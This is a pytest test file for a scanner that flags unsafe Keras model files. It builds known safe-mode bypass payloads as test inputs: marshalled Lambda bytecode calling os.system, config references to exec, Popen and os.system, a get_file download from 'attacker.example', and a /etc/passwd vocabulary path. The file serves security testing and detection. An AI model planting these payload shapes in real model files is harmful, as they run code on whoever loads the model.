"""Keras handler: .keras configs, legacy .h5 files, and the published safe-mode bypass shapes."""

from __future__ import annotations

import base64
import copy
import json
import marshal
import os
import zipfile
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest
from _format_helpers import FakePolicy, by_rule, describe, make_scope, run_on_mmap

from mlarmor.findings import Severity
from mlarmor.scan._keras import (
    is_keras_archive,
    lambda_code_strings,
    scan_hdf5,
    scan_keras_config,
)
from mlarmor.scan.policy import Policy
from mlarmor.scan.rules import ALL_RULES, KERAS_EXTERNAL

os.environ.setdefault("KERAS_BACKEND", "torch")
keras = pytest.importorskip("keras")

LAMBDA = "keras.lambda-code"
DANGEROUS = "keras.dangerous-reference"
UNKNOWN = "keras.unknown-reference"
EXTERNAL = KERAS_EXTERNAL.id
MALFORMED = "format.malformed"


def payload_code(canary: Path) -> str:
    """Base64 of marshalled bytecode for a lambda that would write into the canary folder if run.

    Only ``marshal.dumps`` is used (serialising our own code object); nothing is ever unmarshalled.
    """
    source = f"lambda x: __import__('os').system('touch {canary}/lambda-ran') or x"
    code = compile(source, "<payload>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def scan_config(config: Any, policy: object | None = None):  # type: ignore[no-untyped-def]
    scope, recorder = make_scope(policy)
    raw = config if isinstance(config, bytes) else json.dumps(config).encode()
    assert scan_keras_config(raw, scope) == "keras"
    return scope, recorder


def functional(*layers: dict[str, Any]) -> dict[str, Any]:
    """A Keras 3 functional-model config around the given layer configs."""
    return {
        "module": "keras",
        "class_name": "Functional",
        "config": {"name": "model", "layers": list(layers), "input_layers": [], "output_layers": []},
        "registered_name": "Functional",
    }


def layer(class_name: str, name: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": class_name,
        "config": {"name": name, "trainable": True, **config},
        "registered_name": None,
    }


def fn(module: str, name: str) -> dict[str, Any]:
    """How Keras 3 serialises a function reference."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


# --- real files saved by Keras 3 -----------------------------------------------------------------


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("keras")
    inp = keras.Input(shape=(4,))
    hidden = keras.layers.Dense(8, activation="relu")(inp)
    out = keras.layers.Dense(1, activation="sigmoid")(keras.layers.Dropout(0.1)(hidden))
    plain = keras.Model(inp, out)
    plain.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])
    plain.save(folder / "plain.keras")
    plain.save(folder / "plain.h5")
    plain.save_weights(folder / "plain.weights.h5")

    x = keras.layers.Lambda(lambda t: t * 2.0)(keras.layers.Dense(3)(inp))
    with_lambda = keras.Model(inp, keras.layers.Dense(1)(x))
    with_lambda.save(folder / "lambda.keras")
    with_lambda.save(folder / "lambda.h5")
    return {p.name: p for p in folder.iterdir()}


def config_of(path: Path) -> bytes:
    with zipfile.ZipFile(path) as z:
        return z.read("config.json")


def test_plain_keras_config_is_clean_with_the_real_policy(saved: dict[str, Path]) -> None:
    scope, _ = scan_config(config_of(saved["plain.keras"]), Policy())
    assert scope.findings == [], describe(scope)


def test_keras_archive_layout_is_recognised(saved: dict[str, Path]) -> None:
    with zipfile.ZipFile(saved["plain.keras"]) as z:
        assert is_keras_archive(z.namelist())
    assert not is_keras_archive(["archive/data.pkl", "archive/version"])


def test_saved_lambda_is_critical(saved: dict[str, Path]) -> None:
    scope, _ = scan_config(config_of(saved["lambda.keras"]), Policy())
    (finding,) = by_rule(scope, LAMBDA)
    assert finding.severity == Severity.CRITICAL
    assert finding.evidence["layer"] == "lambda"
    assert finding.evidence["code_bytes"] > 0
    assert "<lambda>" in finding.evidence["strings"]


def test_legacy_h5_model_is_clean(saved: dict[str, Path]) -> None:
    scope, _ = make_scope(Policy())
    assert scan_hdf5(saved["plain.h5"].read_bytes(), scope) == "keras-h5"
    assert scope.findings == [], describe(scope)


def test_legacy_h5_lambda_is_critical(saved: dict[str, Path]) -> None:
    """CVE-2025-9905: legacy .h5 loading ignored safe_mode for Lambda layers."""
    scope, _ = make_scope(Policy())
    assert scan_hdf5(saved["lambda.h5"].read_bytes(), scope) == "keras-h5"
    (finding,) = by_rule(scope, LAMBDA)
    assert finding.evidence["source"] == "model_config"


def test_weights_only_h5_has_nothing_to_run(saved: dict[str, Path]) -> None:
    scope, _ = make_scope()
    assert scan_hdf5(saved["plain.weights.h5"].read_bytes(), scope) == "hdf5"
    assert scope.findings == []


def test_weights_inside_a_keras_archive(saved: dict[str, Path]) -> None:
    with zipfile.ZipFile(saved["plain.keras"]) as z:
        weights = z.read("model.weights.h5")
    scope, _ = make_scope()
    assert scan_hdf5(weights, scope) == "hdf5"
    assert scope.findings == []


def test_h5_from_mmap_is_not_copied_or_leaked(saved: dict[str, Path]) -> None:
    fmt, scope = run_on_mmap(saved["lambda.h5"], scan_hdf5)
    assert fmt == "keras-h5"
    assert by_rule(scope, LAMBDA)


def test_corrupt_h5_is_reported_not_raised(saved: dict[str, Path]) -> None:
    data = saved["plain.h5"].read_bytes()
    for damaged in (data[:600], data[:8] + bytes(200) + data[208:], b"\x89HDF\r\n\x1a\n" + bytes(64)):
        scope, _ = make_scope()
        assert scan_hdf5(damaged, scope) == "hdf5"
        assert [f.severity for f in by_rule(scope, MALFORMED)] == [Severity.MEDIUM]


def test_torch_module_wrapper_payload_is_handed_to_the_pickle_engine(tmp_path: Path) -> None:
    import torch

    model = keras.Sequential([keras.layers.TorchModuleWrapper(torch.nn.Linear(4, 2))])
    model(torch.zeros(1, 4))
    model.save(tmp_path / "tw.keras")
    scope, recorder = scan_config(config_of(tmp_path / "tw.keras"), Policy())
    (finding,) = by_rule(scope, DANGEROUS)
    assert finding.evidence["class_name"] == "TorchModuleWrapper"
    ((member, size, head),) = recorder.calls
    assert member is not None
    assert member.endswith("TorchModuleWrapper.module")
    assert head.startswith(b"PK\x03\x04")  # torch.save's zip
    assert size > 100


# --- crafted configs: the published bypass shapes ----------------------------------------------------


def test_keras3_lambda_payload_lists_its_strings(canary: Path) -> None:
    """CVE-2024-3660: marshalled Lambda bytecode (never unmarshalled here)."""
    lam = layer(
        "Lambda", "evil", function={"class_name": "__lambda__", "config": {"code": payload_code(canary)}}
    )
    scope, _ = scan_config(functional(lam))
    (finding,) = by_rule(scope, LAMBDA)
    assert finding.evidence["layer"] == "evil"
    assert {"os", "system", "__import__"} <= set(finding.evidence["suspicious"])
    assert any(str(canary) in s for s in finding.evidence["strings"])


def test_keras2_lambda_payload(canary: Path) -> None:
    lam = {
        "class_name": "Lambda",
        "config": {"name": "old", "function": [payload_code(canary), None, None], "function_type": "lambda"},
    }
    scope, _ = scan_config({"class_name": "Sequential", "config": {"name": "s", "layers": [lam]}})
    (finding,) = by_rule(scope, LAMBDA)
    assert "system" in finding.evidence["suspicious"]


def test_generic_serialised_lambda_value(canary: Path) -> None:
    activation = {"class_name": "__lambda__", "config": {"value": [payload_code(canary), None, None]}}
    scope, _ = scan_config(functional(layer("Dense", "d", units=2, activation=activation)))
    assert [f.evidence["layer"] for f in by_rule(scope, LAMBDA)] == ["d"]


def test_lambda_with_undecodable_code_is_still_critical() -> None:
    lam = layer(
        "Lambda", "broken", function={"class_name": "__lambda__", "config": {"code": "!!not base64!!"}}
    )
    (finding,) = by_rule(scan_config(functional(lam))[0], LAMBDA)
    assert finding.severity == Severity.CRITICAL


def test_cve_2025_1550_arbitrary_module_function() -> None:
    """Keras < 3.9 imported any module named in the config and called what it found."""
    dense = layer("Dense", "d", units=2, activation=fn("builtins", "exec"))
    popen = layer("Popen", "p", module="subprocess")
    scope, _ = scan_config(functional(dense, popen))
    found = {(f.evidence["module"], f.evidence["name"]): f for f in by_rule(scope, DANGEROUS)}
    assert set(found) == {("builtins", "exec"), ("subprocess", "Popen")}
    assert all(f.severity == Severity.CRITICAL for f in found.values())
    assert found[("subprocess", "Popen")].evidence["category"] == "process"


def test_cve_2025_8747_get_file_gadget() -> None:
    lam = layer(
        "Lambda",
        "download",
        function=fn("keras.utils", "get_file"),
        arguments={"origin": "https://attacker.example/payload", "fname": "/tmp/x"},
    )
    (finding,) = by_rule(scan_config(functional(lam))[0], DANGEROUS)
    assert "CVE-2025-8747" in finding.evidence["reason"]


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("keras.config", "enable_unsafe_deserialization"),
        ("keras.src.backend.common.global_state", "set_global_attribute"),
        ("keras.models", "load_model"),
        ("keras.src.saving.saving_api", "load_model"),
        ("keras.src.utils.file_utils", "extract_archive"),
        ("tf_keras.src.saving.legacy.save", "load_model"),
        ("keras.src.utils.python_utils", "func_load"),
    ],
)
def test_cve_2025_9906_safe_mode_switches(module: str, name: str) -> None:
    """Reach Keras' own functions that disable safe mode or load a second model."""
    lam = layer("Lambda", "switch", function=fn(module, name), arguments={"safe_mode": False})
    (finding,) = by_rule(scan_config(functional(lam))[0], DANGEROUS)
    assert finding.severity == Severity.CRITICAL
    assert (finding.evidence["module"], finding.evidence["name"]) == (module, name)


def test_cve_2025_12058_external_vocabulary() -> None:
    lookup = layer("StringLookup", "lookup", vocabulary="/etc/passwd", num_oov_indices=1)
    (finding,) = by_rule(scan_config(functional(lookup))[0], EXTERNAL)
    assert finding.severity == Severity.HIGH
    assert finding.evidence["vocabulary"] == "/etc/passwd"
    assert KERAS_EXTERNAL in ALL_RULES


def test_inline_vocabulary_is_fine() -> None:
    lookup = layer("StringLookup", "lookup", vocabulary=["a", "b"], num_oov_indices=1)
    assert scan_config(functional(lookup))[0].findings == []


def test_tfsm_layer_loads_an_external_saved_model() -> None:
    tfsm = layer("TFSMLayer", "sm", filepath="/tmp/attacker_saved_model", call_endpoint="serve")
    (finding,) = by_rule(scan_config(functional(tfsm))[0], EXTERNAL)
    assert finding.evidence["filepath"] == "/tmp/attacker_saved_model"


def test_keras2_lambda_function_from_module_globals() -> None:
    """Keras 2 looked ``function`` up in the globals of ``module``: os + system is os.system."""
    lam = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": "system", "function_type": "function", "module": "os"},
    }
    (finding,) = by_rule(scan_config({"class_name": "Sequential", "config": {"layers": [lam]}})[0], DANGEROUS)
    assert (finding.evidence["module"], finding.evidence["name"]) == ("os", "system")


def test_unknown_module_is_medium_and_reported_once() -> None:
    a = layer("Custom", "c1", module="my_company.layers")
    b = layer("Custom", "c2", module="my_company.layers")
    scope, _ = scan_config(functional(a, b))
    (finding,) = by_rule(scope, UNKNOWN)
    assert finding.severity == Severity.MEDIUM
    assert finding.evidence["layer"] in {"c1", "c2"}


def test_keras_builtin_function_names_are_not_python_builtins() -> None:
    policy = FakePolicy()
    dense = layer("Dense", "d", units=2, activation=fn("builtins", "relu"))
    scope, _ = scan_config(functional(dense), policy)
    assert scope.findings == []
    assert ("builtins", "relu") not in policy.asked


def test_policy_allowed_module_is_fine() -> None:
    dense = layer("Dense", "d", units=2, activation=fn("numpy", "tanh"))
    assert scan_config(functional(dense))[0].findings == []


def test_real_policy_classifies_os_system() -> None:
    lam = layer("Lambda", "l", function=fn("os", "system"))
    (finding,) = by_rule(scan_config(functional(lam), Policy())[0], DANGEROUS)
    assert finding.evidence["category"] == "process"


@pytest.mark.parametrize(
    "raw",
    [b"{not json", b"\xff\xfe", b"[" * 100_000 + b"]" * 100_000],
)
def test_unreadable_config_is_medium(raw: bytes) -> None:
    scope, _ = scan_config(raw)
    assert [f.severity for f in by_rule(scope, MALFORMED)] == [Severity.MEDIUM]


def test_crafted_h5_model_config(tmp_path: Path, canary: Path) -> None:
    """A hand-written legacy .h5 whose model_config carries a Lambda and a dangerous reference."""
    config = functional(
        layer("Lambda", "l", function={"class_name": "__lambda__", "config": {"code": payload_code(canary)}}),
        layer("Dense", "d", units=1, activation=fn("builtins", "eval")),
    )
    path = tmp_path / "crafted.h5"
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(config).encode()
        f.attrs["training_config"] = json.dumps({"loss": fn("posix", "system")})
        f.create_dataset("weights", data=np.zeros(4))
    scope, _ = make_scope()
    assert scan_hdf5(path.read_bytes(), scope) == "keras-h5"
    assert by_rule(scope, LAMBDA)
    sources = {f.evidence["source"] for f in by_rule(scope, DANGEROUS)}
    assert sources == {"model_config", "training_config"}


def test_every_mutation_of_a_real_config_is_handled(saved: dict[str, Path]) -> None:
    base = json.loads(config_of(saved["lambda.keras"]))
    for key_path in (["config", "layers"], ["config"], ["compile_config"]):
        broken = copy.deepcopy(base)
        target = broken
        for key in key_path[:-1]:
            target = target[key]
        target[key_path[-1]] = 42
        scan_config(broken)


# --- lambda_code_strings --------------------------------------------------------------------------


def test_lambda_code_strings_reads_marshal_names() -> None:
    def probe(x: Any) -> Any:
        import subprocess

        return subprocess.check_output(["id"]) or x

    strings = lambda_code_strings(marshal.dumps(probe.__code__))
    assert {"subprocess", "check_output", "id", "probe"} <= set(strings)


def test_lambda_code_strings_on_garbage() -> None:
    assert lambda_code_strings(b"") == []
    assert lambda_code_strings(b"z\xff") == []
    assert lambda_code_strings(b"a\xff\xff\xff\x7f") == []
